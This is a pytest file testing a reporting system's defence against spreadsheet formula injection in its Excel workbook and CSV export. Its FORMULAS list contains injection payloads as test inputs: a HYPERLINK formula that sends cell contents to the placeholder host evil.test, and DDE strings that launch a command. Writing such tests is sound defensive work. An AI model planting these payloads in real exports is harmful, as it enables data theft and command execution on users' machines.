"""Text from other systems never becomes a live formula: the monthly workbook stores it as text, and the mapping CSV
export puts an apostrophe before it (OWASP's CSV-injection rule), while importing that export gives it back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from foundation.text import from_spreadsheet_text, looks_like_formula, spreadsheet_text
from foundation.topology import load
from hub.store.db import Database
from mappings.procedures import InMemoryProcedureLookup, NationalProcedure, to_csv
from reports.periods import parse_period
from reports.rules import Rules
from reports.service import Reports
from reports.workbook import write_monthly
from tests.conftest import TOPOLOGIES
from tests.reports import cases

FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")',
    "+84 826 268 534",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Cấp giấy phép xây dựng", "1.000046", "'quoted already", ""]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe_that_import_takes_off(value: str) -> None:
    assert looks_like_formula(value)
    assert spreadsheet_text(value) == "'" + value
    assert from_spreadsheet_text(spreadsheet_text(value)) == value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_left_as_it_is(value: str) -> None:
    assert not looks_like_formula(value)
    assert spreadsheet_text(value) == from_spreadsheet_text(value) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_the_mapping_csv_export_never_starts_a_cell_with_a_formula(value: str) -> None:
    exported = to_csv([(value, NationalProcedure(value, value, value, value))])
    cells = list(csv.reader(io.StringIO(exported, newline="")))[1]
    assert cells == ["'" + value] * 5
    # The name survives an export and an import, up to the import's usual trimming
    imported = InMemoryProcedureLookup.from_csv(exported)(value.strip())
    assert imported is not None
    assert imported.procedure_name == value.strip()


@pytest.fixture
def stored(db: Database) -> Database:
    cases.store(db, cases.facts(cases.QUANG_NAM))
    return db


def test_the_monthly_workbook_keeps_every_formula_like_text_as_text(stored: Database, tmp_path: Path) -> None:
    # Given a late register whose procedure names and apology reasons start like formulas
    reports = Reports(stored, load(TOPOLOGIES / "quang-nam-2023.yaml"), Rules())
    period, now = parse_period("2023-10"), cases.QUANG_NAM_NOW
    late = reports.late(period, now)
    assert any(r.extensions for r in late.rows)
    rows = [
        r.model_copy(
            update={
                "procedure_name": FORMULAS[i % len(FORMULAS)],
                "extensions": [e.model_copy(update={"reason": FORMULAS[-1 - i % len(FORMULAS)]}) for e in r.extensions],
            }
        )
        for i, r in enumerate(late.rows)
    ]
    late = late.model_copy(update={"rows": rows})

    # When the workbook is written
    path = write_monthly(
        tmp_path / "bao-cao.xlsx",
        province="Quảng Nam",
        period=period,
        indicators=reports.indicators(period, now),
        late=late,
        now=now,
    )

    # Then every such cell is a text cell holding exactly the value, and the file holds no formula at all
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if looks_like_formula(c.value)]
    assert {c.value for c in cells} == set(FORMULAS)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
